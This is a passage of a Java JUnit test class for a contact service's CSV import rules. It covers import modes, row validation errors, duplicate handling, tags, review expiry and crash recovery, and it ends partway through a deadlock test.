package io.porter.imports;

import static io.porter.imports.ImportDriver.mapping;
import static io.porter.imports.ImportDriver.options;
import static io.porter.imports.ImportDriver.tags;
import static io.porter.imports.ImportDriver.with;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import io.porter.support.Api;
import io.porter.support.PorterTest;
import io.porter.support.TestWorkspaces;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.beans.factory.annotation.Value;
import org.springframework.jdbc.core.simple.JdbcClient;

/** The import rules of the issue, each over HTTP as a client uses them, and checked through the contacts API. */
@PorterTest
class ImportRulesTest extends TestWorkspaces {

    @Autowired
    JdbcClient db;

    @Autowired
    ImportRunner runner;

    @Autowired
    ImportJobs jobs;

    @Autowired
    ImportService service;

    @Autowired
    io.porter.notifications.Notifications notifications;

    @Value("${porter.data-dir}")
    Path dataDir;

    private static Map<String, Object> forPurpose(String purpose) {
        return options(purpose, purpose.equals("add-all") ? null : "email");
    }

    // ---------------------------------------------------------------- the purpose decides

    static Stream<Arguments> purposeTable() {
        // rows: exists+name, exists+no name, new+name, new+no name
        return Stream.of(
                Arguments.of("add-new", List.of("Skipped", "Skipped", "Imported", "Error")),
                Arguments.of("update-existing", List.of("Updated", "Updated", "Skipped", "Skipped")),
                Arguments.of("add-and-update", List.of("Updated", "Updated", "Imported", "Error")),
                Arguments.of("add-all", List.of("Imported", "Imported", "Imported", "Imported")));
    }

    @ParameterizedTest(name = "{0}: {1}")
    @MethodSource("purposeTable")
    void thePurposeDecidesByExistenceAndName(String purpose, List<String> expected) {
        Ws ws = newWorkspace("ES");
        ImportDriver d = new ImportDriver(ws.api());
        String known = d.createContact("email", "known@example.com", "name", "Known One", "city", "Sevilla").path("id").asText();
        String known2 = d.createContact("email", "known2@example.com", "name", "Known Two", "city", "Sevilla").path("id").asText();

        ImportDriver.Outcome o = d.run("""
                Email,Name,City
                known@example.com,Known Renamed,Madrid
                known2@example.com,,Bilbao
                new@example.com,New Person,Valencia
                nameless@example.com,,Cádiz
                """, forPurpose(purpose));

        assertThat(o.statuses()).isEqualTo(expected);
        assertThat(o.review().path("added").asInt()).isEqualTo(count(expected, "Imported"));
        assertThat(o.review().path("updated").asInt()).isEqualTo(count(expected, "Updated"));
        assertThat(o.review().path("skipped").asInt()).isEqualTo(count(expected, "Skipped"));
        assertThat(o.review().path("errors").asInt()).isEqualTo(count(expected, "Error"));
        assertThat(o.job().path("counts").path("added").asInt()).isEqualTo(count(expected, "Imported"));

        boolean updates = expected.get(0).equals("Updated");
        JsonNode k = d.contact(known);
        assertThat(k.path("city").asText()).isEqualTo(updates ? "Madrid" : "Sevilla");
        assertThat(k.path("name").asText()).isEqualTo(updates ? "Known Renamed" : "Known One");
        // default mode: the blank name cell clears the name of the contact it updates
        assertThat(d.contact(known2).path("name").isNull()).isEqualTo(updates);
        assertThat(d.find("email=new@example.com")).hasSize(expected.get(2).equals("Imported") ? 1 : 0);
        assertThat(d.find("email=nameless@example.com")).hasSize(expected.get(3).equals("Imported") ? 1 : 0);
        // add-all creates a second contact even though one with that email exists
        assertThat(d.find("email=known@example.com")).hasSize(purpose.equals("add-all") ? 2 : 1);
        if (expected.get(3).equals("Error")) {
            assertThat(o.errors(3)).contains("needs a name");
        }
        assertThat(d.contactCount()).isEqualTo(2 + count(expected, "Imported"));
    }

    private static int count(List<String> statuses, String s) {
        return (int) statuses.stream().filter(s::equals).count();
    }

    // ---------------------------------------------------------------- a row's own problems

    @Test
    void aNumberTooLongToStoreIsItsRowsErrorNotTheReviews() {
        Ws ws = newWorkspace("ES");
        ImportDriver d = new ImportDriver(ws.api());
        String longest = "0." + "0".repeat(997) + "1";
        ImportDriver.Outcome o = d.run("Email,Name,Score\n"
                + "long@example.com,Too Long,0." + "0".repeat(16_383) + "1\n"
                + "longest@example.com,Longest," + longest + "\n"
                + "short@example.com,Short,7\n", forPurpose("add-and-update"), Map.of(
                "Score", Map.of("field", "custom.score", "create", Map.of("type", "number", "label", "Score"))));

        assertThat(o.statuses()).containsExactly("Error", "Imported", "Imported");
        assertThat(o.errors(0)).startsWith("Score: '0.000").contains("has more digits than a number can hold");
        // read back whole over the API, not as a double
        String body = ws.api().get("/api/v1/contacts?email=longest@example.com").body();
        assertThat(body).contains("\"score\":" + longest + "}");
        String seven = ws.api().get("/api/v1/contacts?email=short@example.com").body();
        assertThat(seven).contains("\"score\":7}");
    }

    @ParameterizedTest
    @ValueSource(strings = {"add-new", "update-existing", "add-and-update", "add-all"})
    void invalidValuesMakeTheRowAnErrorNamingColumnAndValue(String purpose) {
        Ws ws = newWorkspace("ES");
        ImportDriver d = new ImportDriver(ws.api());
        List<String> existing = new ArrayList<>();
        for (String e : List.of("p@example.com", "d@example.com", "n@example.com", "b@example.com", "ok@example.com")) {
            existing.add(d.createContact("email", e, "name", "Before", "city", "Sevilla").path("id").asText());
        }
        String csv = """
                E-mail,Name,Móvil,Joined,Score,Subscribed,City
                bad@@example,Bad Email,,,,,Madrid
                p@example.com,Bad Phone,12ab,,,,Madrid
                d@example.com,Bad Date,,31/02/2024x,,,Madrid
                n@example.com,Bad Number,,,12.5.1,,Madrid
                b@example.com,Bad Boolean,,,,maybe,Madrid
                ok@example.com,Good Row,612345678,2024-01-15,7,yes,Madrid
                """;
        ImportDriver.Outcome o = d.run(csv, forPurpose(purpose), Map.of(
                "Score", Map.of("field", "custom.score", "create", Map.of("type", "number", "label", "Score")),
                "Subscribed", Map.of("field", "custom.subscribed", "create", Map.of("type", "boolean", "label", "Subscribed"))));

        List<String[]> bad = List.of(new String[] {"E-mail", "bad@@example"}, new String[] {"Móvil", "12ab"},
                new String[] {"Joined", "31/02/2024x"}, new String[] {"Score", "12.5.1"}, new String[] {"Subscribed", "maybe"});
        for (int i = 0; i < bad.size(); i++) {
            assertThat(o.status(i)).as("row " + (i + 2)).isEqualTo("Error");
            assertThat(o.errors(i)).as("row " + (i + 2)).contains(bad.get(i)[0]).contains("'" + bad.get(i)[1] + "'");
        }
        assertThat(o.status(5)).isEqualTo(switch (purpose) {
            case "add-new" -> "Skipped";
            case "add-all" -> "Imported";
            default -> "Updated";
        });
        assertThat(o.review().path("errors").asInt()).isEqualTo(5);
        // a row in error changes nothing, not even on the contact its identifier names
        for (int i = 0; i < 4; i++) {
            JsonNode c = d.contact(existing.get(i));
            assertThat(c.path("name").asText()).isEqualTo("Before");
            assertThat(c.path("city").asText()).isEqualTo("Sevilla");
            assertThat(c.path("custom_attributes").size()).isZero();
        }
        if (!purpose.equals("add-new")) {
            JsonNode good = purpose.equals("add-all") ? d.find("email=ok@example.com").get(1) : d.contact(existing.get(4));
            assertThat(good.path("name").asText()).isEqualTo("Good Row");
            assertThat(good.path("phone").asText()).isEqualTo("+34612345678");
            assertThat(good.path("custom_attributes").path("score").asDouble()).isEqualTo(7.0);
            assertThat(good.path("custom_attributes").path("subscribed").asBoolean()).isTrue();
        }
    }

    @ParameterizedTest(name = "{0} by {1}: blank identifier → {2}")
    @CsvSource({
            "add-new, email, Error", "update-existing, email, Error", "add-and-update, email, Error",
            "add-new, phone, Error", "update-existing, phone, Error", "add-and-update, phone, Error",
            "add-and-update, user-id, Error", "add-all, , Imported"})
    void aBlankIdentifierIsAnErrorExceptForAddAll(String purpose, String identifier, String expected) {
        Ws ws = newWorkspace("ES");
        ImportDriver d = new ImportDriver(ws.api());
        d.createContact("email", "x@example.com", "name", "X");
        ImportDriver.Outcome o = d.run("""
                Name,Email,Phone,User ID
                Nobody,,,
                "Spaces Only",  ,  ,  \s
                """, options(purpose, identifier));
        assertThat(o.statuses()).containsOnly(expected);
        if (expected.equals("Error")) {
            assertThat(o.errors(0)).contains("empty");
        }
        assertThat(d.contactCount()).isEqualTo(expected.equals("Imported") ? 3 : 1);
    }

    static Stream<Arguments> duplicates() {
        String byEmail = """
                Email,Phone,Name
                ana@example.com,611000001,Ana
                 ANA@Example.com ,611000002,Ana Dos
                "  Ana@EXAMPLE.com",611000003,Ana Tres
                solo@example.com,611000004,Solo
                """;
        String byPhone = """
                Email,Phone,Name
                a1@example.com,612 34 56 78,Ana
                a2@example.com,+34612345678,Ana Dos
                a3@example.com,0034 612-345-678,Ana Tres
                solo@example.com,611000004,Solo
                """;
        List<Arguments> out = new ArrayList<>();
        for (String purpose : List.of("add-new", "update-existing", "add-and-update")) {
            out.add(Arguments.of(purpose, "email", byEmail));
            out.add(Arguments.of(purpose, "phone", byPhone));
        }
        return out.stream();
    }

    @ParameterizedTest(name = "{0} by {1}")
    @MethodSource("duplicates")
    void rowsSharingAnIdentifierAreAllErrorsNamingTheOtherRows(String purpose, String identifier, String csv) {
        Ws ws = newWorkspace("ES");
        ImportDriver d = new ImportDriver(ws.api());
        String ana = d.createContact("email", "ana@example.com", "phone", "+34612345678", "name", "Ana Before").path("id").asText();
        d.createContact("email", "solo@example.com", "phone", "+34611000004", "name", "Solo Before");

        ImportDriver.Outcome o = d.run(csv, options(purpose, identifier));

        assertThat(o.statuses().subList(0, 3)).containsOnly("Error");
        assertThat(o.errors(0)).contains("row 3, 4");
        assertThat(o.errors(1)).contains("row 2, 4");
        assertThat(o.errors(2)).contains("row 2, 3");
        assertThat(o.status(3)).isEqualTo(purpose.equals("add-new") ? "Skipped" : "Updated");
        assertThat(d.contact(ana).path("name").asText()).isEqualTo("Ana Before");
        assertThat(d.contactCount()).isEqualTo(2);
    }

    @ParameterizedTest
    @CsvSource({"add-new, email", "update-existing, email", "add-and-update, email", "add-and-update, phone",
            "update-existing, user-id"})
    void anIdentifierThatSeveralContactsShareIsAnError(String purpose, String identifier) {
        Ws ws = newWorkspace("ES");
        ImportDriver d = new ImportDriver(ws.api());
        String one = d.createContact("email", "twin@example.com", "phone", "+34612345678", "user_id", "u-1", "name", "Twin One").path("id").asText();
        String two = d.createContact("email", "TWIN@example.com", "phone", "612 34 56 78", "user_id", "u-1", "name", "Twin Two").path("id").asText();

        ImportDriver.Outcome o = d.run("""
                Email,Phone,User ID,Name
                twin@example.com,+34612345678,u-1,Which One
                """, options(purpose, identifier));

        assertThat(o.status(0)).isEqualTo("Error");
        assertThat(o.errors(0)).contains("2 contacts");
        assertThat(d.contact(one).path("name").asText()).isEqualTo("Twin One");
        assertThat(d.contact(two).path("name").asText()).isEqualTo("Twin Two");
        assertThat(d.contactCount()).isEqualTo(2);
    }

    // ---------------------------------------------------------------- updating

    @Test
    void updatingByDefaultTakesEveryMappedValueAndBlankClears() {
        Ws ws = newWorkspace("ES");
        ImportDriver d = new ImportDriver(ws.api());
        assertThat(ws.api().post("/api/v1/fields", Map.of("key", "plan", "label", "Plan", "type", "text")).status()).isEqualTo(201);
        String full = d.createContact("email", "full@example.com", "name", "Old Name", "city", "Sevilla", "language", "es",
                "custom_attributes", Map.of("plan", "gold")).path("id").asText();
        d.tag(full, "old");
        String other = d.createContact("email", "other@example.com", "name", "Other", "city", "Sevilla",
                "custom_attributes", Map.of("plan", "gold")).path("id").asText();
        d.tag(other, "old");

        ImportDriver.Outcome o = d.run("""
                Email,Name,City,Plan,Tags
                full@example.com,New Name,,silver,vip; new
                other@example.com,Other,Bilbao,,
                """, with(options("update-existing", "email"), "tags", List.of("campaign")));

        assertThat(o.statuses()).containsExactly("Updated", "Updated");
        JsonNode f = d.contact(full);
        assertThat(f.path("name").asText()).isEqualTo("New Name");
        assertThat(f.path("city").isNull()).as("a blank cell clears the field").isTrue();
        assertThat(f.path("language").asText()).as("an unmapped field stays").isEqualTo("es");
        assertThat(f.path("custom_attributes").path("plan").asText()).isEqualTo("silver");
        assertThat(tags(f)).containsExactlyInAnyOrder("vip", "new", "campaign");
        JsonNode ot = d.contact(other);
        assertThat(ot.path("city").asText()).isEqualTo("Bilbao");
        assertThat(ot.path("custom_attributes").has("plan")).as("a blank custom cell clears it").isFalse();
        assertThat(tags(ot)).as("a blank tags cell leaves only this import's tags").containsExactly("campaign");
    }

    @Test
    void doNotOverwriteFillsOnlyEmptyFieldsAndKeepsTags() {
        Ws ws = newWorkspace("ES");
        ImportDriver d = new ImportDriver(ws.api());
        assertThat(ws.api().post("/api/v1/fields", Map.of("key", "plan", "label", "Plan", "type", "text")).status()).isEqualTo(201);
        String c = d.createContact("email", "keep@example.com", "name", "Kept Name", "city", "Sevilla",
                "custom_attributes", Map.of("plan", "gold")).path("id").asText();
        d.tag(c, "old");
        String e = d.createContact("email", "empty@example.com", "name", "Empty").path("id").asText();

        ImportDriver.Outcome o = d.run("""
                Email,Name,City,Phone,Plan,Tags
                keep@example.com,Other Name,,612345678,silver,vip
                empty@example.com,,Bilbao,622000000,bronze,"a,b"
                """, with(with(options("add-and-update", "email"), "no_overwrite", true), "tags", List.of("campaign")));

        assertThat(o.statuses()).containsExactly("Updated", "Updated");
        JsonNode k = d.contact(c);
        assertThat(k.path("name").asText()).isEqualTo("Kept Name");
        assertThat(k.path("city").asText()).as("a blank cell changes nothing").isEqualTo("Sevilla");
        assertThat(k.path("phone").asText()).as("an empty field is filled").isEqualTo("+34612345678");
        assertThat(k.path("custom_attributes").path("plan").asText()).isEqualTo("gold");
        assertThat(tags(k)).containsExactlyInAnyOrder("old", "vip", "campaign");
        JsonNode em = d.contact(e);
        assertThat(em.path("name").asText()).isEqualTo("Empty");
        assertThat(em.path("city").asText()).isEqualTo("Bilbao");
        assertThat(em.path("custom_attributes").path("plan").asText()).isEqualTo("bronze");
        assertThat(tags(em)).containsExactlyInAnyOrder("a", "b", "campaign");
    }

    @Test
    void tagsWithCommasQuotesAndBackslashesArriveAsWritten() {
        Ws ws = newWorkspace("ES");
        ImportDriver d = new ImportDriver(ws.api());

        // the cell is: "New York, NY"; say "hi"; C:\temp; vip, with a batch tag that has a quote and a backslash too
        ImportDriver.Outcome o = d.run("Email,Name,Tags\n"
                + "tags@example.com,Tags,\"\"\"New York, NY\"\"; say \"\"hi\"\"; C:\\temp; vip\"\n",
                with(with(options("add-new", "email"), "tags", List.of("a \"b\" \\c")), "import_tag", ""));

        assertThat(o.statuses()).containsExactly("Imported");
        JsonNode c = d.find("email=tags@example.com").get(0);
        assertThat(tags(c)).containsExactlyInAnyOrder("New York, NY", "say \"hi\"", "C:\\temp", "vip", "a \"b\" \\c");
    }

    static Stream<Arguments> everyMode() {
        return Stream.of(Arguments.of("add-new", false), Arguments.of("update-existing", false),
                Arguments.of("update-existing", true), Arguments.of("add-and-update", false),
                Arguments.of("add-and-update", true), Arguments.of("add-all", false));
    }

    @ParameterizedTest(name = "{0}, do not overwrite: {1}")
    @MethodSource("everyMode")
    void batchTagsAndTheImportTagGoOnEveryImportedOrUpdatedContact(String purpose, boolean noOverwrite) {
        Ws ws = newWorkspace("ES");
        ImportDriver d = new ImportDriver(ws.api());
        String old = d.createContact("email", "old@example.com", "name", "Old").path("id").asText();
        d.tag(old, "before");
        Map<String, Object> opts = with(with(with(forPurpose(purpose), "no_overwrite", noOverwrite),
                "tags", List.of("spring", "fair")), "import_tag", "Import of the fair list");

        ImportDriver.Outcome o = d.run("""
                Email,Name,Tags
                old@example.com,Old,from-file
                new@example.com,New,
                broken@,Broken,from-file
                """, opts);

        List<String> batch = List.of("spring", "fair", "Import of the fair list");
        assertThat(o.status(2)).isEqualTo("Error");
        boolean updates = purpose.equals("update-existing") || purpose.equals("add-and-update");
        for (JsonNode c : d.find("email=old@example.com")) {
            // the existing contact is touched when the purpose updates; add-all makes a second, new one
            boolean touched = !c.path("id").asText().equals(old) || updates;
            if (touched) {
                assertThat(tags(c)).as(c.toString()).containsAll(batch).contains("from-file");
            } else {
                assertThat(tags(c)).containsExactly("before");
            }
        }
        List<JsonNode> created = d.find("email=new@example.com");
        assertThat(created).hasSize(purpose.equals("update-existing") ? 0 : 1);
        created.forEach(c -> assertThat(tags(c)).containsExactlyInAnyOrderElementsOf(batch));
        // the row in error and the skipped rows tag nobody: only touched contacts carry the batch tags
        long tagged = ws.api().get("/api/v1/contacts?tag=spring").json().path("total").asLong();
        assertThat(tagged).isEqualTo(count(o.statuses(), "Imported") + count(o.statuses(), "Updated"));
    }

    @ParameterizedTest(name = "do not overwrite: {0}")
    @ValueSource(booleans = {false, true})
    void withoutATagsColumnBatchTagsAreAddedToTheContactsOwnAndAnImportThatAppliesNothingCreatesNoTag(boolean noOverwrite) {
        Ws ws = newWorkspace("ES");
        ImportDriver d = new ImportDriver(ws.api());
        String old = d.createContact("email", "old@example.com", "name", "Old").path("id").asText();
        d.tag(old, "before");
        Map<String, Object> opts = with(with(with(options("add-and-update", "email"), "no_overwrite", noOverwrite),
                "tags", List.of("spring")), "import_tag", "Import of the list");
        ImportDriver.Outcome o = d.run("Email,Name\nold@example.com,Old\nnew@example.com,New\n", opts);

        assertThat(o.statuses()).containsExactly("Updated", "Imported");
        String importTag = "Import of the list";
        assertThat(tags(d.contact(old))).containsExactlyInAnyOrder("before", "spring", importTag);
        assertThat(tags(d.find("email=new@example.com").get(0))).containsExactlyInAnyOrder("spring", importTag);

        // every row skipped: the batch tag is created by nothing
        ImportDriver.Outcome none = d.run("Email,Name\nnobody@example.com,Nobody\n",
                with(with(options("update-existing", "email"), "tags", List.of("autumn")), "import_tag", ""));
        assertThat(none.statuses()).containsExactly("Skipped");
        assertThat(ws.api().get("/api/v1/tags").json().toString()).contains("spring").doesNotContain("autumn");
    }

    @Test
    void withUserIdAsIdentifierTheEmailColumnChangesTheEmail() {
        Ws ws = newWorkspace("ES");
        ImportDriver d = new ImportDriver(ws.api());
        String c = d.createContact("user_id", "u-42", "email", "old@example.com", "name", "Ana").path("id").asText();

        ImportDriver.Outcome o = d.run("""
                User ID,Email,Name
                u-42,New@Example.com,Ana
                """, options("add-and-update", "user-id"));

        assertThat(o.statuses()).containsExactly("Updated");
        assertThat(d.contact(c).path("email").asText()).isEqualTo("New@Example.com");
        assertThat(d.find("email=new@example.com")).extracting(j -> j.path("id").asText()).containsExactly(c);
        assertThat(d.find("email=old@example.com")).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(booleans = {false, true})
    void matchingByEmailNeverChangesAUserId(boolean noOverwrite) {
        Ws ws = newWorkspace("ES");
        ImportDriver d = new ImportDriver(ws.api());
        String c = d.createContact("user_id", "u-1", "email", "ana@example.com", "name", "Ana").path("id").asText();
        String blank = d.createContact("user_id", "u-2", "email", "bea@example.com", "name", "Bea").path("id").asText();

        ImportDriver.Outcome o = d.run("""
                Email,User ID,Name
                ana@example.com,u-999,Ana
                bea@example.com,,Bea
                """, with(options("add-and-update", "email"), "no_overwrite", noOverwrite));

        assertThat(o.statuses()).containsExactly("Updated", "Updated");
        assertThat(d.contact(c).path("user_id").asText()).isEqualTo("u-1");
        assertThat(d.contact(blank).path("user_id").asText()).isEqualTo("u-2");
    }

    @Test
    void aRowInErrorChangesNothingAndNeverStopsTheOthers() {
        Ws ws = newWorkspace("ES");
        ImportDriver d = new ImportDriver(ws.api());
        String c = d.createContact("email", "ana@example.com", "name", "Ana", "city", "Sevilla").path("id").asText();
        d.tag(c, "before");
        StringBuilder csv = new StringBuilder("Email,Name,City,Phone,Tags\n");
        csv.append("ana@example.com,Changed,Madrid,not a phone,x\n");
        for (int i = 0; i < 30; i++) {
            csv.append("p").append(i).append("@example.com,Person ").append(i).append(",Madrid,,\n");
        }
        ImportDriver.Outcome o = d.run(csv.toString(), with(options("add-and-update", "email"), "tags", List.of("batch")));

        assertThat(o.status(0)).isEqualTo("Error");
        assertThat(o.errors(0)).contains("Phone").contains("'not a phone'");
        assertThat(o.statuses().subList(1, 31)).containsOnly("Imported");
        JsonNode a = d.contact(c);
        assertThat(a.path("name").asText()).isEqualTo("Ana");
        assertThat(a.path("city").asText()).isEqualTo("Sevilla");
        assertThat(tags(a)).containsExactly("before");
        assertThat(d.contactCount()).isEqualTo(31);
    }

    @Test
    void theShortestValidPhoneNumbersAreImportedLikeAnyOther() {
        // +98 9601 (an Iranian UAN, six digits) is valid for libphonenumber; the database once refused it, failing
        // the whole chunk with an SQL error
        Ws ws = newWorkspace("ES");
        ImportDriver d = new ImportDriver(ws.api());
        ImportDriver.Outcome o = d.run("Email,Name,Phone\nuan@example.com,UAN,+98 9601\nes@example.com,ES,612 34 56 78\n",
                options("add-and-update", "email"));

        assertThat(o.statuses()).containsExactly("Imported", "Imported");
        assertThat(d.find("email=uan@example.com").get(0).path("phone").asText()).isEqualTo("+989601");
        assertThat(d.find("email=es@example.com").get(0).path("phone").asText()).isEqualTo("+34612345678");
    }

    @Test
    void blankLinesInTheFileDoNotKeepLaterRowsFromBeingApplied() {
        Ws ws = newWorkspace("ES");
        ImportDriver d = new ImportDriver(ws.api());
        ImportDriver.Outcome o = d.run("Email,Name\n\na@example.com,A\n\n\nb@example.com,B\n,\nc@example.com,C\n",
                options("add-and-update", "email"));
        assertThat(o.statuses()).containsExactly("Imported", "Imported", "Imported");
        assertThat(d.find("email=a@example.com")).hasSize(1);
        assertThat(d.find("email=b@example.com")).hasSize(1);
        assertThat(d.find("email=c@example.com")).hasSize(1);
        assertThat(o.job().path("counts").path("added").asInt()).isEqualTo(3);
        assertThat(o.job().path("progress").path("rows_done").asInt()).isEqualTo(o.job().path("progress").path("total").asInt());
    }

    // ---------------------------------------------------------------- review

    @Test
    void reviewCountsAddUpAndWriteNothing() {
        Ws ws = newWorkspace("ES");
        ImportDriver d = new ImportDriver(ws.api());
        String c = d.createContact("email", "known@example.com", "name", "Known").path("id").asText();
        ImportDriver.Uploaded up = d.upload("review.csv", """
                Email,Name,Favourite colour,Tags
                known@example.com,Known Renamed,blue,vip
                new@example.com,New,green,vip
                bad@,Bad,red,
                new@example.com,Dup,red,
                """);
        assertThat(d.plan(up.id(), with(options("add-and-update", "email"), "tags", List.of("campaign")),
                mapping(up.suggestedMapping(), Map.of())).status()).isEqualTo(200);
        Api.Response r = d.review(up.id());
        assertThat(r.status()).as(r.toString()).isEqualTo(200);
        JsonNode j = r.json();
        assertThat(List.of(j.path("added").asInt(), j.path("updated").asInt(), j.path("skipped").asInt(), j.path("errors").asInt()))
                .containsExactly(0, 1, 0, 3);
        assertThat(j.path("total").asInt()).isEqualTo(4);

        assertThat(d.contactCount()).isEqualTo(1);
        assertThat(d.contact(c).path("name").asText()).isEqualTo("Known");
        assertThat(tags(d.contact(c))).isEmpty();
        assertThat(ws.api().get("/api/v1/tags").json().path("data").size()).as("no tag created by a review").isZero();
        assertThat(ws.api().get("/api/v1/fields").json().toString()).as("no custom field created by a review")
                .doesNotContain("favourite_colour");

        JsonNode job = ws.api().get("/api/v1/imports/" + up.id()).json();
        assertThat(Duration.between(Instant.parse(job.path("reviewed_at").asText()), Instant.parse(job.path("review_expires_at").asText())))
                .isEqualTo(Duration.ofHours(1));
    }

    @Test
    void startingAfterTheReviewExpiredIsRefusedSayingSo() {
        Ws ws = newWorkspace("ES");
        ImportDriver d = new ImportDriver(ws.api());
        ImportDriver.Uploaded up = d.reviewed("late.csv", "Email,Name\na@example.com,A\n", options("add-and-update", "email"));
        db.sql("update import_job set review_expires_at = now() - interval '1 second' where workspace_id = ? and id = ?")
                .params(ws.id(), up.id()).update();

        startIsRefusedUntilReviewedAgain(d, up.id(), "expired", "review it again");
    }

    @Test
    void startingAReviewWhoseRowsPostgresqlLostIsRefusedSayingToReviewAgain() {
        Ws ws = newWorkspace("ES");
        ImportDriver d = new ImportDriver(ws.api());
        ImportDriver.Uploaded up = d.reviewed("lost.csv", "Email,Name\na@example.com,A\n", options("add-and-update", "email"));
        // what crash recovery does to the unlogged import_row table (only this import's rows: tests share the server)
        db.sql("delete from import_row where workspace_id = ? and import_id = ?").params(ws.id(), up.id()).update();

        startIsRefusedUntilReviewedAgain(d, up.id(), "PostgreSQL restarted", "No row was applied", "Review it again");
    }

    /** A one-row import whose start is refused, saying so and writing nothing, and that runs once reviewed again. */
    private static void startIsRefusedUntilReviewedAgain(ImportDriver d, long id, String... says) {
        Api.Response start = d.start(id);
        assertThat(start.status()).isBetween(400, 409);
        assertThat(start.detail()).contains(says);
        assertThat(d.contactCount()).isZero();

        assertThat(d.review(id).status()).isEqualTo(200);
        assertThat(d.start(id).status()).isEqualTo(202);
        d.await(id);
        assertThat(d.contactCount()).isEqualTo(1);
    }

    @Test
    void anImportWhoseRowsPostgresqlLostMidwayFailsCleanlySayingWhatWasApplied() {
        Ws ws = newWorkspace("ES");
        ImportDriver d = new ImportDriver(ws.api());
        ImportDriver.Uploaded up = d.reviewed("midway.csv", "Email,Name\na@example.com,A\nb@example.com,B\n", options("add-and-update", "email"));
        // as a process that died after its first chunk leaves it, on a server that has since recovered from a crash
        db.sql("update import_job set status = 'running', rows_done = 1 where workspace_id = ? and id = ?").params(ws.id(), up.id()).update();
        db.sql("delete from import_row where workspace_id = ? and import_id = ?").params(ws.id(), up.id()).update();

        org.assertj.core.api.Assertions.assertThatThrownBy(() -> runner.run(ws.id(), up.id(), n -> { }, new Timings()))
                .isInstanceOf(ImportRejectedException.class);

        JsonNode job = ws.api().get("/api/v1/imports/" + up.id()).json();
        assertThat(job.path("status").asText()).isEqualTo("failed");
        assertThat(job.toString()).contains("PostgreSQL restarted").contains("The first 1 rows were applied")
                .contains("review it again");
        Api.Response again = d.start(up.id());
        assertThat(again.status()).isBetween(400, 409);
        assertThat(again.detail()).contains("PostgreSQL restarted");
    }

    @Test
    void aResumedImportSkipsExactlyTheChunksThatCommittedEvenOutOfOrder() {
        Ws ws = newWorkspace("ES");
        ImportDriver d = new ImportDriver(ws.api());
        ImportDriver.Uploaded up = d.reviewed("chunks.csv", "Email,Name\na@example.com,A\nb@example.com,B\nc@example.com,C\n", options("add-and-update", "email"));
        // as a process leaves it that died when, of three one-row chunks, only the last had committed (and was
        // marked as if it had created nobody, so applying it again would show)
        db.sql("update import_job set status = 'running', chunk_rows = 1, chunks_done = '{4}', rows_done = 1 "
                + "where workspace_id = ? and id = ?").params(ws.id(), up.id()).update();

        assertThat(runner.run(ws.id(), up.id(), n -> { }, new Timings())).isTrue();

        JsonNode job = ws.api().get("/api/v1/imports/" + up.id()).json();
        assertThat(job.path("status").asText()).isEqualTo("completed");
        assertThat(job.path("progress").path("rows_done").asInt()).isEqualTo(3);
        assertThat(d.contactCount()).as("rows 2 and 3 applied, row 4's chunk skipped").isEqualTo(2);
        assertThat(db.sql("select count(*) from domain_event where workspace_id = ? and type = 'contact.created'")
                .param(ws.id()).query(Integer.class).single()).isEqualTo(2);
    }

    @Test
    void aReviewInSpanishWritesEveryRowsErrorsInSpanish() {
        Ws ws = newWorkspace("ES");
        ImportDriver d = new ImportDriver(ws.api());
        ImportDriver.Uploaded up = d.upload("es.csv", """
                Email,Name,Phone,Signed up,Role,Last IP,Score,Vip
                a@,A,612 34 56 78,2024-01-15,user,203.0.113.7,1,true
                b@example.com,B,12,2024-01-15,user,203.0.113.7,1,true
                c@example.com,C,612 34 56 78,31/02/2024,user,203.0.113.7,1,true
                d@example.com,D,612 34 56 78,2024-01-15,boss,203.0.113.7,1,true
                e@example.com,E,612 34 56 78,2024-01-15,user,not-an-ip,1,true
                f@example.com,F,612 34 56 78,2024-01-15,user,203.0.113.7,uno,true
                g@example.com,G,612 34 56 78,2024-01-15,user,203.0.113.7,1,quizá
                ,H,612 34 56 78,2024-01-15,user,203.0.113.7,1,true
                i@example.com,,612 34 56 78,2024-01-15,user,203.0.113.7,1,true
                """);
        List<Map<String, Object>> m = mapping(up.suggestedMapping(), Map.of());
        m.get(6).put("create", Map.of("type", "number", "label", "Score"));
        m.get(7).put("create", Map.of("type", "boolean", "label", "Vip"));
        assertThat(d.plan(up.id(), options("add-and-update", "email"), m).status()).isEqualTo(200);

        service.review(ws.id(), up.id(), java.util.Locale.forLanguageTag("es"), Timings.none(), n -> { });

        List<List<String>> rows = ImportDriver.parse(ws.api().get("/api/v1/imports/" + up.id() + "/errors.csv").body());
        List<String> errors = rows.subList(1, rows.size()).stream().map(r -> r.get(r.size() - 1)).toList();
        assertThat(errors).containsExactly(
                "Email: 'a@' no es una dirección de email válida; escríbelo como nombre@ejemplo.com",
                "Phone: '12' es demasiado corto para un número de teléfono en el país por defecto con el que se leyó: España (+34); "
                        + "revisa los dígitos o escribe un número de otro país con su prefijo de país, p. ej. +44 20 7946 0958",
                "Signed up: '31/02/2024' no es una fecha: febrero de 2024 no tiene día 31 (tiene 29 días); escríbela como "
                        + "2024-02-29, 29/02/2024, 2024-02-29T13:45:00Z (fecha y hora con su desfase, como +01:00) o como marca de "
                        + "tiempo Unix, p. ej. 1709214300",
                "Role: 'boss' no es un rol; usa user o lead",
                "Last IP: 'not-an-ip' no es una dirección IP; escríbela como 203.0.113.7 o 2001:db8::1",
                "Score: 'uno' no es un número; escribe cifras con un punto para los decimales, p. ej. 1234.5",
                "Vip: 'quizá' no es un valor sí/no; usa true o false (también valen yes/no y 1/0)",
                "Email está vacío: cada fila necesita su email para encontrar su contacto (solo add-all importa filas sin él)",
                "un contacto nuevo necesita un nombre: rellena la celda de nombre, nombre de pila o apellidos");
    }

    @Test
    void aChunkThatLosesADeadlockIsAppliedAgainWholeAndOnlyOnce() {
        Ws ws = newWorkspace("ES");
        ImportDriver d = new ImportDriver(ws.api());
        ImportDriver.Uploaded up = reviewedInChunks(ws, d, "deadlock.csv", 1);
        // PostgreSQL chooses b's chunk as a deadlock's victim the first time it inserts b, after a's contact is in
